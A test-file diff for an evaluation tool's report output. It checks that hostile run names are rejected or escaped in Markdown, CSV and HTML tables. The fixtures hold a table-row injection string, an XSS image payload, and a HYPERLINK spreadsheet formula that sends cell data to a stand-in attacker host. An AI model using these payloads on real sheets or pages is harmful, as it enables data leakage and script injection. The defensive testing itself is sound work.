@@ -220,3 +220,140 @@ def test_a_symbolic_link_out_of_the_image_folder_is_refused(tiny_chains, outside
     with pytest.raises(CommonlinkError) as info:
         ImageFetcher().open(origin, None, what="image x")
     assert "escapes" in info.value.problem or "outside" in info.value.problem, info.value.problem
+
+
+# ------------------------------------------------------------------ 4. run names: one line, and escaped in every table
+
+FORGED = "a | 99.99 | forged |\n| injected | row"
+HTML_NAME = "<img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+
+
+@pytest.fixture(scope="module")
+def co_runs(tmp_path_factory) -> list[Path]:
+    """Two Common-O runs whose results.json name them with hostile names (as a hand edit or an older file could:
+    the tables must escape whatever they read)."""
+    from tests.fixtures.tiny_models import common_o_rows, write_common_o_split
+
+    root = tmp_path_factory.mktemp("runs")
+    data = write_common_o_split(root / "data", common_o_rows(6, seed=2), split="main")
+    runs = []
+    for i, name in enumerate((FORGED, HTML_NAME, FORMULA)):
+        out = root / f"run{i}"
+        args = ["eval", "commono", "--model", "random", "--data", data, "--out", out, "--bootstrap", "10"]
+        result = invoke(*args, "--quiet", "--no-report", "--run-name", f"run{i}", "--seed", str(i))
+        assert result.exit_code == 0, result.output
+        results = json.loads((out / "results.json").read_text())
+        results["run_name"] = name
+        (out / "results.json").write_text(json.dumps(results))
+        runs.append(out)
+    return runs
+
+
+@pytest.mark.parametrize(
+    ("name", "problem"),
+    [
+        (FORGED, "control character"),
+        ("tab\there", "control character"),
+        ("right\u202eto-left", "control character"),
+        ("x" * 121, "121 characters"),
+        ("  ", "empty"),
+    ],
+)
+def test_a_run_name_must_be_one_short_line_in_the_library_and_the_cli(tmp_path, name, problem):
+    from commonlink.errors import InputError
+    from commonlink.eval.evaluator import RunOptions
+    from commonlink.eval.run_names import check_run_name
+
+    with pytest.raises(InputError) as info:
+        RunOptions(run_name=name)
+    assert problem in info.value.problem, info.value.problem
+    with pytest.raises(InputError):
+        check_run_name(name)
+    from tests.fixtures.tiny_models import common_o_rows, write_common_o_split
+
+    data = write_common_o_split(tmp_path / "data", common_o_rows(2, seed=2), split="main")
+    result = invoke("eval", "commono", "--model", "random", "--data", data, "--out", tmp_path / "o", "--run-name", name)
+    assert result.exit_code == 1 and problem in result.output, result.output
+    assert not (tmp_path / "o" / "results.json").exists()
+
+
+def _md_table_rows(markdown: str) -> list[list[str]]:
+    """The body rows of every table a CommonMark + GFM-tables renderer finds, as cell texts."""
+    from markdown_it import MarkdownIt
+
+    tokens = MarkdownIt("commonmark").enable(["table"]).parse(markdown)
+    rows, row, in_body = [], None, False
+    for token in tokens:
+        if token.type in ("tbody_open", "tbody_close"):
+            in_body = token.type == "tbody_open"
+        elif in_body and token.type == "tr_open":
+            row = []
+        elif in_body and token.type == "tr_close":
+            rows.append(row)
+        elif in_body and token.type == "inline" and row is not None:
+            assert all(child.type in ("text", "softbreak", "text_special") for child in token.children or []), token
+            row.append(token.content)
+    return rows
+
+
+def _unescape(cell: str) -> str:
+    import re
+
+    return re.sub(r"\\(.)", r"\1", cell)
+
+
+def test_eval_compare_markdown_shows_each_name_in_one_row_as_written(co_runs):
+    result = invoke("eval", "compare", *co_runs)
+    assert result.exit_code == 0, result.output
+    rows = _md_table_rows(result.output)
+    assert len(rows) == 3, rows  # no forged or injected row
+    names = sorted(_unescape(r[0]) for r in rows)
+    assert names == sorted([FORGED.replace("\n", " "), HTML_NAME, FORMULA]), names
+    assert "<img" not in result.output.replace("\\<img", "")
+
+
+def test_results_md_escapes_the_run_name(co_runs):
+    from commonlink.eval.report.tables import load_results, render_markdown_table
+
+    text = render_markdown_table(load_results(co_runs))
+    rows = _md_table_rows(text)
+    assert len(rows) == 3 and {_unescape(r[0]) for r in rows} == {FORGED.replace("\n", " "), HTML_NAME, FORMULA}
+
+
+def test_eval_compare_csv_neutralises_formulas_and_keeps_one_row_per_run(co_runs):
+    import csv
+    import io
+
+    result = invoke("eval", "compare", *co_runs, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.output)))
+    body = [r for r in rows[1:] if r]
+    assert len(body) == 3
+    cells = {r[1] for r in body}
+    assert "'" + FORMULA in cells and FORMULA not in cells, cells
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in body for c in r if not _number(c)), body
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_cells_neutralise_every_formula_prefix():
+    from commonlink.eval.table_cells import csv_cell
+
+    for prefix in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_cell(f"{prefix}1+1") == f"'{prefix}1+1"
+    assert csv_cell("plain") == "plain" and csv_cell(-0.5) == -0.5 and csv_cell(None) is None
+
+
+def test_the_html_report_shows_the_name_as_text(co_runs, tmp_path):
+    page = tmp_path / "report.html"
+    result = invoke("eval", "report", co_runs[1], "--out", page, "--images", "none", "--quiet")
+    assert result.exit_code == 0, result.output
+    text = page.read_text()
+    assert "<img src=x" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
